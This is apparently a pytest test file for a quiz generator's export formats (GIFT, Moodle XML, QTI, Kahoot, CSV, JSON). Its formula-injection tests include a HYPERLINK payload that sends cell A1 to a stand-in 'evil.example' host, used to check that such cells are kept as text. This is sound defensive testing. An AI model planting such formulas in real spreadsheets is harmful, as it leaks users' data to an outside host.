"""Each text and spreadsheet format, read back with a parser of its own: GIFT with tests/gift_reader.py,
Moodle XML and QTI with lxml, Kahoot with openpyxl, CSV with the csv module."""

from __future__ import annotations

import csv
import dataclasses
import html
import json
import zipfile
from pathlib import Path

import openpyxl
import pytest
from export_fixtures import (
    CHOICE,
    CLOZE,
    MATCHING,
    SCRIPT,
    SHORT,
    TIMELINE,
    TRUE_FALSE,
    sample_set,
    second_set,
)
from gift_reader import read as read_gift
from lxml import etree

from quizgen.export import export
from quizgen.export.kahoot import HEADER_ROW, HEADERS
from quizgen.models import QuestionSet

QTI = "{http://www.imsglobal.org/xsd/ims_qtiasiv1p2}"
CP = "{http://www.imsglobal.org/xsd/imscp_v1p1}"


def one_set(*questions) -> list[QuestionSet]:
    return [QuestionSet("The Quillhaven Charter", tuple(questions))]


# ---- GIFT --------------------------------------------------------------------------------------

def test_gift_reads_back_every_question_with_its_escapes(tmp_path: Path) -> None:
    out = tmp_path / "quiz.gift"
    report = export([sample_set()], "gift", out, parent="Quill Deck")
    parsed = read_gift(out.read_text(encoding="utf-8"))
    questions = {q.name: q for q in parsed if q.qtype != "category"}

    assert report.count == 6 == len(questions)
    assert report.left_out == []

    mc = questions[CHOICE.id]
    assert mc.qtype == "multichoice" and mc.text_format == "html"
    assert html.unescape(mc.text) == CHOICE.prompt
    assert [(html.unescape(a), w) for a, w in mc.answers] == [(c, 1.0 if c == CHOICE.answer else 0.0)
                                                              for c in CHOICE.choices]
    assert html.unescape(mc.general_feedback) == CHOICE.explanation

    tf = questions[TRUE_FALSE.id]
    assert tf.qtype == "truefalse" and tf.truth is False
    assert html.unescape(tf.text) == TRUE_FALSE.prompt  # "<b>" and ":" survive

    short = questions[SHORT.id]
    assert short.qtype == "shortanswer"
    assert short.answers == [(SHORT.answer, 1.0)]  # plain text: Moodle compares it with what is typed
    assert SCRIPT not in short.text and html.unescape(short.text) == SHORT.prompt

    cloze = questions[CLOZE.id]  # missing word: the answer block stands where the blank was
    assert cloze.qtype == "shortanswer"
    assert html.unescape(cloze.text) == CLOZE.prompt
    assert cloze.answers == [(CLOZE.answer, 1.0)]

    match = questions[MATCHING.id]
    assert match.qtype == "match"
    assert [(html.unescape(left), right) for left, right in match.pairs] == list(MATCHING.answer)

    # GIFT has no ordering question: the timeline asks for each event's place in time
    timeline = questions[TIMELINE.id]
    assert timeline.qtype == "match" and "earliest" in html.unescape(timeline.text)
    assert [(html.unescape(left), right) for left, right in timeline.pairs] == list(
        zip(TIMELINE.answer, ("1st", "2nd", "3rd"), strict=True))


def test_gift_categories_follow_parent_article_and_section(tmp_path: Path) -> None:
    out = tmp_path / "quiz.gift"
    export([sample_set(), second_set()], "gift", out, parent="Quill Deck")
    categories = {q.category for q in read_gift(out.read_text(encoding="utf-8")) if q.qtype == "category"}
    assert categories == {
        "$course$/top/Quill Deck/The Quillhaven Charter/Background",
        "$course$/top/Quill Deck/The Quillhaven Charter/The signing",
        "$course$/top/Quill Deck/The Quillhaven Charter/Aftermath",
        "$course$/top/Quill Deck/Odo Fenn/Life",
    }


def test_gift_cloze_with_blank_at_the_end_keeps_the_blank(tmp_path: Path) -> None:
    q = dataclasses.replace(CLOZE, prompt="The charter was signed at _____", explanation="x")
    out = tmp_path / "q.gift"
    export(one_set(q), "gift", out)
    category, parsed = read_gift(out.read_text(encoding="utf-8"))
    assert category.category == "$course$/top/The Quillhaven Charter/Background"
    assert parsed.text == "The charter was signed at _____"
    assert parsed.answers == [(CLOZE.answer, 1.0)]


def test_gift_reports_matching_it_cannot_escape(tmp_path: Path) -> None:
    q = dataclasses.replace(MATCHING, answer=(("A -> B", "x"), ("C", "y")))
    report = export(one_set(q), "gift", tmp_path / "q.gift")
    assert report.count == 0
    assert report.left_out == [(MATCHING.id, "matching (a left item contains '->', which GIFT cannot escape)")]


def test_gift_reader_follows_moodle_on_its_own_examples() -> None:
    source = "// comment\n::Grant::Who's buried in Grant's tomb?{~Grant ~Jefferson =no one}\n\n" \
             "Grant is {~buried =entombed ~living} in Grant's tomb.\n\n" \
             "Match.{=Canada -> Ottawa =Italy -> Rome}\n\nA \\{brace\\} and a \\\\ backslash.{TRUE}"
    a, b, c, d = read_gift(source)
    assert (a.name, a.qtype, a.answers[-1]) == ("Grant", "multichoice", ("no one", 1.0))
    assert b.text == "Grant is _____ in Grant's tomb."
    assert c.pairs == [("Canada", "Ottawa"), ("Italy", "Rome")]
    assert (d.text, d.truth) == ("A {brace} and a \\ backslash.", True)


# ---- Moodle XML --------------------------------------------------------------------------------

def test_moodle_xml_reads_back(tmp_path: Path) -> None:
    out = tmp_path / "quiz.xml"
    report = export([sample_set(), second_set()], "moodle-xml", out, parent="Quill Deck")
    root = etree.parse(str(out)).getroot()
    assert root.tag == "quiz"
    questions = {q.findtext("name/text"): q for q in root.iterfind("question") if q.get("type") != "category"}
    assert report.count == 8 == len(questions) and not report.left_out
    assert {q.get("type") for q in questions.values()} == {"multichoice", "truefalse", "shortanswer", "matching"}

    def text(el: etree._Element, path: str) -> str:
        node = el.find(path)
        return html.unescape(node.findtext("text")) if node.get("format") == "html" else node.findtext("text")

    mc = questions[CHOICE.id]
    assert text(mc, "questiontext") == CHOICE.prompt
    assert {text(a, ".") : a.get("fraction") for a in mc.iterfind("answer")} == {
        c: "100" if c == CHOICE.answer else "0" for c in CHOICE.choices}
    assert text(mc, "generalfeedback") == CHOICE.explanation

    tf = questions[TRUE_FALSE.id]
    assert {a.findtext("text"): a.get("fraction") for a in tf.iterfind("answer")} == {"true": "0", "false": "100"}

    short = questions[SHORT.id]
    assert short.find("questiontext/text").text == html.escape(SHORT.prompt, quote=False)  # "<script>" as text
    assert [a.findtext("text") for a in short.iterfind("answer")] == [SHORT.answer]

    cloze = questions[CLOZE.id]
    assert cloze.get("type") == "shortanswer" and "_____" in text(cloze, "questiontext")

    match = questions[MATCHING.id]
    assert [(text(s, "."), s.findtext("answer/text")) for s in match.iterfind("subquestion")] == list(MATCHING.answer)
    timeline = questions[TIMELINE.id]  # no ordering question in every Moodle: matched with places in time
    assert timeline.get("type") == "matching"
    assert [(text(s, "."), s.findtext("answer/text")) for s in timeline.iterfind("subquestion")] == list(
        zip(TIMELINE.answer, ("1st", "2nd", "3rd"), strict=True))

    categories = [q.findtext("category/text") for q in root.iterfind("question[@type='category']")]
    assert "$course$/top/Quill Deck/Odo Fenn/Life" in categories


# ---- QTI ---------------------------------------------------------------------------------------

def read_qti(path: Path) -> tuple[etree._Element, dict[str, etree._Element]]:
    with zipfile.ZipFile(path) as archive:
        names = set(archive.namelist())
        manifest = etree.fromstring(archive.read("imsmanifest.xml"))
        assessments = {}
        for resource in manifest.iter(f"{CP}resource"):
            assert resource.get("type") == "imsqti_xmlv1p2"
            href = resource.find(f"{CP}file").get("href")
            assert href in names
            assessments[resource.get("identifier")] = etree.fromstring(archive.read(href))
    return manifest, assessments


def test_qti_zip_has_manifest_and_well_formed_assessments(tmp_path: Path) -> None:
    out = tmp_path / "quiz.zip"
    report = export([sample_set(), second_set()], "qti", out)
    manifest, assessments = read_qti(out)
    assert manifest.tag == f"{CP}manifest"
    assert len(assessments) == 2
    items = []
    for root in assessments.values():
        assert root.tag == f"{QTI}questestinterop"
        (assessment,) = root.findall(f"{QTI}assessment")
        section = assessment.find(f"{QTI}section")
        for item in section.findall(f"{QTI}item"):
            # the order Canvas expects
            assert [child.tag for child in item][:3] == [f"{QTI}itemmetadata", f"{QTI}presentation",
                                                         f"{QTI}resprocessing"]
            items.append(item)
    assert len(items) == report.count == 8 and not report.left_out
    timeline = next(item for item in items if item.get("title") == TIMELINE.id)
    assert timeline.findtext(f".//{QTI}fieldentry") == "matching_question"


QTI_SCHEMA = Path(__file__).parent / "data" / "qti12_subset.rng"


def test_qti_assessments_validate_against_the_qti_1_2_subset_schema(tmp_path: Path) -> None:
    schema = etree.RelaxNG(etree.parse(str(QTI_SCHEMA)))
    out = tmp_path / "quiz.zip"
    export([sample_set(), second_set()], "qti", out)
    _, assessments = read_qti(out)
    for root in assessments.values():
        assert schema.validate(root), schema.error_log
    # and the schema does catch a misplaced element
    item = next(root.iter(f"{QTI}item"))
    item.append(item.find(f"{QTI}itemmetadata"))
    assert not schema.validate(root)


def qti_items(path: Path) -> dict[str, etree._Element]:
    _, assessments = read_qti(path)
    return {item.get("title"): item for root in assessments.values() for item in root.iter(f"{QTI}item")}


def metadata(item: etree._Element) -> dict[str, str]:
    return {f.findtext(f"{QTI}fieldlabel"): f.findtext(f"{QTI}fieldentry") for f in item.iter(f"{QTI}qtimetadatafield")}


def test_qti_answers_are_scored_right(tmp_path: Path) -> None:
    out = tmp_path / "quiz.zip"
    export([sample_set()], "qti", out)
    items = qti_items(out)

    def prompt(item: etree._Element) -> str:
        mattext = item.find(f"{QTI}presentation/{QTI}material/{QTI}mattext")
        assert mattext.get("texttype") == "text/html"
        return html.unescape(mattext.text)

    mc = items[CHOICE.id]
    assert metadata(mc)["question_type"] == "multiple_choice_question"
    assert prompt(mc) == CHOICE.prompt
    labels = {label.get("ident"): label.findtext(f"{QTI}material/{QTI}mattext")
              for label in mc.iter(f"{QTI}response_label")}
    assert list(labels.values()) == list(CHOICE.choices)
    (right,) = [c for c in mc.iter(f"{QTI}respcondition") if c.find(f"{QTI}setvar") is not None]
    assert labels[right.findtext(f"{QTI}conditionvar/{QTI}varequal")] == CHOICE.answer
    assert right.findtext(f"{QTI}setvar") == "100"

    tf = items[TRUE_FALSE.id]
    assert metadata(tf)["question_type"] == "true_false_question"
    tf_labels = {label.get("ident"): label.findtext(f"{QTI}material/{QTI}mattext")
                 for label in tf.iter(f"{QTI}response_label")}
    assert tf_labels[tf.find(f".//{QTI}varequal").text] == "False"

    short = items[SHORT.id]
    assert metadata(short)["question_type"] == "short_answer_question"
    assert short.find(f".//{QTI}response_str/{QTI}render_fib") is not None
    assert short.find(f".//{QTI}varequal").text == SHORT.answer
    assert SCRIPT not in short.find(f".//{QTI}mattext").text  # escaped HTML inside the XML text

    assert metadata(items[CLOZE.id])["question_type"] == "short_answer_question"
    assert prompt(items[CLOZE.id]) == CLOZE.prompt

    match = items[MATCHING.id]
    assert metadata(match)["question_type"] == "matching_question"
    found = []
    for lid in match.iter(f"{QTI}response_lid"):
        left = lid.findtext(f"{QTI}material/{QTI}mattext")
        options = {label.get("ident"): label.findtext(f"{QTI}material/{QTI}mattext")
                   for label in lid.iter(f"{QTI}response_label")}
        chosen = match.xpath("q:resprocessing/q:respcondition[q:conditionvar/q:varequal/@respident=$r]"
                             "/q:conditionvar/q:varequal/text()", namespaces={"q": QTI[1:-1]}, r=lid.get("ident"))
        found.append((left, options[chosen[0]]))
    assert found == list(MATCHING.answer)


# ---- Kahoot ------------------------------------------------------------------------------------

def kahoot_rows(path: Path) -> list[tuple]:
    ws = openpyxl.load_workbook(path).active
    assert tuple(c.value or "" for c in ws[HEADER_ROW]) == HEADERS
    return [tuple(c.value for c in row) for row in ws.iter_rows(min_row=HEADER_ROW + 1)]


def test_kahoot_sheet_follows_the_template(tmp_path: Path) -> None:
    out = tmp_path / "quiz.xlsx"
    report = export([sample_set()], "kahoot", out)
    rows = kahoot_rows(out)
    assert report.count == len(rows) == 2
    assert set(report.left_out) == {
        (TIMELINE.id, "timeline (Kahoot quizzes take only multiple choice and true/false)"),
        (MATCHING.id, "matching (Kahoot quizzes take only multiple choice and true/false)"),
        (CLOZE.id, "cloze (a typed answer, and too few other place answers in the export to choose from)"),
        (SHORT.id, "short answer (a typed answer, and too few other person answers in the export to choose from)")}
    number, question, *answers, seconds, correct = rows[0]
    assert (number, question) == (1, CHOICE.prompt)
    assert answers == list(CHOICE.choices) and answers[correct - 1] == CHOICE.answer
    assert seconds in (5, 10, 20, 30, 60, 90, 120, 240)
    number, question, *answers, seconds, correct = rows[1]
    assert question == f"True or false: {TRUE_FALSE.prompt}"
    assert answers[:2] == ["True", "False"] and answers[2:] == [None, None] and correct == 2
    for row in rows:
        assert len(row[1]) <= 120 and all(len(a or "") <= 75 for a in row[2:6])


def test_kahoot_shortens_only_where_meaning_survives(tmp_path: Path) -> None:
    core = "which guild " + "x" * 100 + "?"
    fits = dataclasses.replace(CHOICE, id="c1", prompt="According to the article, " + core)
    too_long = dataclasses.replace(CHOICE, id="c2", prompt="W" + "o" * 130 + "?")
    long_answer = dataclasses.replace(CHOICE, id="c3", choices=(*CHOICE.choices[:3], "y" * 76))
    out = tmp_path / "quiz.xlsx"
    report = export(one_set(fits, too_long, long_answer), "kahoot", out)
    (row,) = kahoot_rows(out)
    assert row[1] == "W" + core[1:]
    assert report.left_out == [("c2", "multiple choice (question over 120 characters)"),
                               ("c3", "multiple choice (an answer over 75 characters)")]


def test_kahoot_offers_a_typed_answer_with_the_exports_other_answers_as_wrong_ones(tmp_path: Path) -> None:
    people = ["Mara Quill", "Odo Fenn", "Ilse Varr"]
    typed = [dataclasses.replace(SHORT, id=f"s{n}", prompt=f"Who signed clause {n}?", answer=name)
             for n, name in enumerate(people)]
    within = dataclasses.replace(SHORT, id="s9", prompt="Who sealed it?", answer="Quill")  # part of "Mara Quill"
    long_the = dataclasses.replace(CHOICE, id="c9", answer="The " + "y" * 72,
                                   choices=("The " + "y" * 72, "Weavers", "Coopers"))
    out = tmp_path / "quiz.xlsx"
    report = export(one_set(*typed, within, long_the), "kahoot", out)
    rows = kahoot_rows(out)
    assert report.count == len(rows) == 5 and not report.left_out
    for (_, question, *answers, _, correct), q in zip(rows, [*typed, within], strict=False):
        assert question == q.prompt and answers[correct - 1] == q.answer
        wrong = {a for a in answers if a and a != q.answer}
        assert len(wrong) >= 2 and wrong <= {*people, "Quill"}
        assert not any(q.answer in w or w in q.answer for w in wrong)  # no option that holds the answer
    *_, last = rows
    assert last[2 + last[-1] - 1] == "y" * 72  # "The " dropped to fit 75 characters


# ---- CSV and JSON ------------------------------------------------------------------------------

def test_csv_reads_back_as_term_and_definition(tmp_path: Path) -> None:
    out = tmp_path / "cards.csv"
    report = export([sample_set()], "csv", out)
    with out.open(newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    assert report.count == 6 and not report.left_out
    assert all(len(row) == 2 for row in rows)
    assert [CHOICE.prompt, CHOICE.answer] in rows
    assert [SHORT.prompt, SHORT.answer] in rows
    assert [TRUE_FALSE.prompt, f"False. {TRUE_FALSE.explanation}"] in rows
    assert [TIMELINE.prompt, " → ".join(TIMELINE.answer)] in rows
    assert all(list(pair) in rows for pair in MATCHING.answer)
    assert len(rows) == 5 + len(MATCHING.answer)


def test_tsv_for_quizlet_has_one_line_per_card(tmp_path: Path) -> None:
    multiline = dataclasses.replace(SHORT, prompt='Who wrote\nthe "note"\tin the margin?')
    out = tmp_path / "cards.tsv"
    export(one_set(multiline, CHOICE), "csv", out)
    lines = out.read_text(encoding="utf-8").splitlines()
    assert lines[0] == f'Who wrote the "note" in the margin?\t{SHORT.answer}'
    assert all(line.count("\t") == 1 for line in lines)


# ---- cells a spreadsheet would run as formulas ----------------------------------------------------

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
FORMULAS = ("=1+1", LINK, "@SUM(1+1)", "+1+1", "-1+1")
HOSTILE = dataclasses.replace(CHOICE, id="f1", prompt="=1+1", answer=LINK, choices=(LINK, "@SUM(1+1)", "+1+1", "-1+1"))


@pytest.mark.parametrize("name", ["cards.csv", "cards.tsv"])
def test_csv_cells_that_start_like_formulas_are_kept_as_text(tmp_path: Path, name: str) -> None:
    out = tmp_path / name
    export(one_set(HOSTILE, dataclasses.replace(SHORT, id="f2", prompt="@cmd", answer="+7")), "csv", out)
    with out.open(newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f, delimiter="\t" if name.endswith(".tsv") else ","))
    assert rows == [["'=1+1", "'" + LINK], ["'@cmd", "'+7"]]


def test_kahoot_stores_formula_like_text_as_text(tmp_path: Path) -> None:
    out = tmp_path / "quiz.xlsx"
    export([QuestionSet("=1+1 quiz", (HOSTILE,))], "kahoot", out)
    ws = openpyxl.load_workbook(out).active
    cells = [ws.cell(row=HEADER_ROW + 1, column=c) for c in range(2, 7)] + [ws["B3"]]
    assert [c.value for c in cells[:5]] == ["=1+1", *HOSTILE.choices]
    assert all(c.data_type == "s" and c.quotePrefix for c in cells), [(c.value, c.data_type) for c in cells]
    assert cells[5].value.startswith("=1+1 quiz")
    with zipfile.ZipFile(out) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet  # no formula anywhere in the file
    assert ws.cell(row=HEADER_ROW + 1, column=8).data_type == "n"  # numbers stay numbers


def test_json_is_the_generate_contract(tmp_path: Path) -> None:
    out = tmp_path / "q.json"
    export([sample_set()], "json", out)
    data = json.loads(out.read_text(encoding="utf-8"))
    assert data == sample_set().to_dict()
    export([sample_set(), second_set()], "json", out)
    assert json.loads(out.read_text(encoding="utf-8")) == {"decks": [sample_set().to_dict(), second_set().to_dict()]}


@pytest.mark.parametrize("fmt", ["csv", "kahoot", "gift", "moodle-xml", "qti", "json"])
def test_same_input_gives_the_same_bytes(tmp_path: Path, fmt: str) -> None:
    export([sample_set()], fmt, tmp_path / "a")
    export([sample_set()], fmt, tmp_path / "b")
    assert (tmp_path / "a").read_bytes() == (tmp_path / "b").read_bytes()
